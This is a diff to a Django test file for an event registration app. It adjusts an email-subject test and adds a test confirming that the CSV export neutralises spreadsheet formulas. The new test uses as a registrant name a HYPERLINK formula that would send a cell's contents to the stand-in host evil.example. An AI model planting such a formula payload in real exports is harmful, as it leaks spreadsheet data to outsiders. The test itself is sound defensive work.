@@ -215,13 +215,13 @@ def test_cancelling_a_place_moves_the_longest_waiting_person_up_and_emails_them(
 def test_email_is_written_in_the_language_of_the_event(
     index_en, mailoutbox, django_capture_on_commit_callbacks
 ):
-    event = event_at(index_en, next_summer(), title="Future workshop", capacity=1)
+    event = event_at(index_en, next_summer(), title='Coffee & cake "at" the green', capacity=1)
     first, _ = register_people(event, "A", "B")
 
     with django_capture_on_commit_callbacks(execute=True):
         services.cancel(first, event)
 
-    assert mailoutbox[0].subject == "You have a place: Future workshop"
+    assert mailoutbox[0].subject == 'You have a place: Coffee & cake "at" the green'
     assert f"July 1, {next_summer().year}" in mailoutbox[0].body
     assert "Hello B," in mailoutbox[0].body
 
@@ -529,6 +529,18 @@ def test_editors_download_an_events_registrations_as_csv(client, index, event, g
     listing = client.get(index_url, {"event": event.pk})
     assert listing.status_code == 200
     assert "Anna" in listing.content.decode() and "Dora" not in listing.content.decode()
+
+
+@pytest.mark.django_db
+def test_csv_export_defuses_spreadsheet_formulas(client, event):
+    register_people(event, '=HYPERLINK("http://evil.example/?"&B2,"Klick")', "+49 Anna")
+    client.force_login(UserFactory(group=EDITORS))
+    response = client.get(
+        reverse("event_registrations:index"), {"event": event.pk, "export": "csv"}
+    )
+    _header, *rows = export_rows(response)
+    names = sorted(row[2] for row in rows)
+    assert names == ["'+49 Anna", '\'=HYPERLINK("http://evil.example/?"&B2,"Klick")']
 
 
 @pytest.mark.django_db
